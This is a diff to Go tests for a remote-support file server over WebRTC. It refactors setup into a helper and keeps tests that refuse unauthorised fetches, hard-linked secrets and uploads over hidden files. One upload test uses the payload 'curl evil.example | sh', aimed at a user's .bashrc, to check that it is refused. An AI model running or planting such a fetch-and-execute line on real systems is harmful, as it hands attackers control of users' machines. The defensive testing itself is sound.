@@ -94,6 +94,21 @@ func pair(t *testing.T) (broker, host *webrtc.PeerConnection) {
 	return broker, host
 }
 
+// serve runs a files server with cfg on the host's side of a pair, which
+// lets technicians in while allowed says so, and returns it and the
+// broker's side.
+func serve(t *testing.T, cfg Config, allowed func() bool) (*Server, *webrtc.PeerConnection) {
+	t.Helper()
+	srv, err := New(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { srv.Close() })
+	broker, host := pair(t)
+	host.OnDataChannel(func(dc *webrtc.DataChannel) { srv.Attach(dc, allowed) })
+	return srv, broker
+}
+
 // openFiles opens a files channel from the broker's side and returns it
 // with ask, which sends a message and returns the host's answer, and
 // answer, which returns the host's next message.
@@ -144,15 +159,9 @@ func openFiles(t *testing.T, broker *webrtc.PeerConnection) (dc *webrtc.DataChan
 func TestRevokeRemovesPartial(t *testing.T) {
 	home := t.TempDir()
 	inbox := filepath.Join(home, "in")
-	srv, err := New(Config{Root: home, Inbox: inbox})
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer srv.Close()
-	broker, host := pair(t)
 	var allowed atomic.Bool
 	allowed.Store(true)
-	host.OnDataChannel(func(dc *webrtc.DataChannel) { srv.Attach(dc, allowed.Load) })
+	srv, broker := serve(t, Config{Root: home, Inbox: inbox}, allowed.Load)
 	dc, ask, answer := openFiles(t, broker)
 	data := make([]byte, 256<<10)
 	sum := sha256.Sum256(data)
@@ -188,15 +197,9 @@ func TestRevokeRemovesPartial(t *testing.T) {
 func TestPauseKeepsPartial(t *testing.T) {
 	home := t.TempDir()
 	inbox := filepath.Join(home, "in")
-	srv, err := New(Config{Root: home, Inbox: inbox})
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer srv.Close()
-	broker, host := pair(t)
 	var allowed atomic.Bool
 	allowed.Store(true)
-	host.OnDataChannel(func(dc *webrtc.DataChannel) { srv.Attach(dc, allowed.Load) })
+	srv, broker := serve(t, Config{Root: home, Inbox: inbox}, allowed.Load)
 	data := make([]byte, 256<<10)
 	copy(data, "not all zeros")
 	sum := sha256.Sum256(data)
@@ -270,14 +273,8 @@ func TestPauseKeepsPartial(t *testing.T) {
 func TestHostRefusesWithoutGrant(t *testing.T) {
 	home := t.TempDir()
 	os.WriteFile(filepath.Join(home, "secret.txt"), []byte("private"), 0o600)
-	srv, err := New(Config{Root: home, Inbox: filepath.Join(home, "in")})
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer srv.Close()
-	broker, host := pair(t)
 	allowed := false
-	host.OnDataChannel(func(dc *webrtc.DataChannel) { srv.Attach(dc, func() bool { return allowed }) })
+	srv, broker := serve(t, Config{Root: home, Inbox: filepath.Join(home, "in")}, func() bool { return allowed })
 	dc, ask, _ := openFiles(t, broker)
 	for _, m := range []protocol.FileMessage{{Type: protocol.FileGet, Path: "secret.txt"}, {Type: protocol.FileList, Path: "."}} {
 		if r := ask(m); r.Type != protocol.FileError || r.Code != protocol.FileErrDenied {
@@ -306,13 +303,7 @@ func TestHostRefusesWithoutGrant(t *testing.T) {
 func TestSameFileTwiceAtOnce(t *testing.T) {
 	home := t.TempDir()
 	inbox := filepath.Join(home, "in")
-	srv, err := New(Config{Root: home, Inbox: inbox})
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer srv.Close()
-	broker, host := pair(t)
-	host.OnDataChannel(func(dc *webrtc.DataChannel) { srv.Attach(dc, func() bool { return true }) })
+	_, broker := serve(t, Config{Root: home, Inbox: inbox}, func() bool { return true })
 	data := make([]byte, 192<<10)
 	for i := range data {
 		data[i] = byte(i * 7)
@@ -362,13 +353,7 @@ func TestUploadHiddenOrPartialNameRefused(t *testing.T) {
 	home := t.TempDir()
 	inbox := filepath.Join(home, "in")
 	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# the user's own\n"), 0o644)
-	srv, err := New(Config{Root: home, Inbox: inbox})
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer srv.Close()
-	broker, host := pair(t)
-	host.OnDataChannel(func(dc *webrtc.DataChannel) { srv.Attach(dc, func() bool { return true }) })
+	_, broker := serve(t, Config{Root: home, Inbox: inbox}, func() bool { return true })
 	_, ask, _ := openFiles(t, broker)
 	data := []byte("curl evil.example | sh\n")
 	sum := sha256.Sum256(data)
@@ -406,13 +391,7 @@ func TestUploadHiddenOrPartialNameRefused(t *testing.T) {
 // how long it is, the limit, and to rename the file.
 func TestUploadLongNameRefusedInWords(t *testing.T) {
 	home := t.TempDir()
-	srv, err := New(Config{Root: home, Inbox: filepath.Join(home, "in")})
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer srv.Close()
-	broker, host := pair(t)
-	host.OnDataChannel(func(dc *webrtc.DataChannel) { srv.Attach(dc, func() bool { return true }) })
+	_, broker := serve(t, Config{Root: home, Inbox: filepath.Join(home, "in")}, func() bool { return true })
 	_, ask, _ := openFiles(t, broker)
 	sum := sha256.Sum256([]byte("x"))
 	r := ask(protocol.FileMessage{Type: protocol.FilePut, Name: strings.Repeat("report-", 42) + "v2.pdf", Size: 1, SHA256: hex.EncodeToString(sum[:])})
@@ -547,13 +526,7 @@ func TestFetchHardLinkRefused(t *testing.T) {
 	must(os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte("a secret outside the shared folder\n"), 0o600))
 	must(os.Link(filepath.Join(home, ".ssh", "id_ed25519"), filepath.Join(shared, "notes.txt")))
 	must(os.WriteFile(filepath.Join(shared, "report.txt"), []byte("fine"), 0o644))
-	srv, err := New(Config{Root: shared, Inbox: filepath.Join(shared, "in")})
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer srv.Close()
-	broker, host := pair(t)
-	host.OnDataChannel(func(dc *webrtc.DataChannel) { srv.Attach(dc, func() bool { return true }) })
+	_, broker := serve(t, Config{Root: shared, Inbox: filepath.Join(shared, "in")}, func() bool { return true })
 	_, ask, _ := openFiles(t, broker)
 	r := ask(protocol.FileMessage{Type: protocol.FileGet, Path: "notes.txt"})
 	const want = "notes.txt cannot be fetched: it has 2 names on the user's computer (hard links), and the others may be outside the shared folder. Ask the user to copy it into the shared folder, and fetch the copy."
